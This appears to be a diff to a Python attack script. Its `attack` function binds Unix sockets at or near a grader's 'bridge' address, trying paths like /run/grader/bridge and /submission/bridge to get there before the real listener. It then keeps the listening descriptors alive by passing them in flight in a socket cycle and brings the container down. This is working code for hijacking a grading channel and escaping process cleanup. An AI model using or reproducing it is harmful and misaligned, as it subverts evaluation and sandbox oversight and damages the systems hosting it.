@@ -1,4 +1,4 @@
-"""Leaves a listener on the bridge's address alive in a cycle of sockets, then brings the container down."""
+"""Leaves a listener, as near the bridge's address as it may, alive in a cycle of sockets; then brings the container down."""
 
 import os
 import socket
@@ -13,7 +13,12 @@ def attack(key):
     """In flight, a descriptor outlives the processes that had it."""
     for number in range(3):
         held = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
-        held.bind("\0grader-bridge" + (f"-{number}" if number else ""))
+        for place in ("/run/grader/bridge", "/submission/bridge", "/tmp/bridge"):  # where it may, it will have been first
+            try:
+                held.bind(f"{place}-{number}")
+                break
+            except OSError:
+                pass
         held.listen(8)
         near, far = socket.socketpair()
         socket.send_fds(near, [b"x"], [held.fileno(), near.fileno(), far.fileno()])
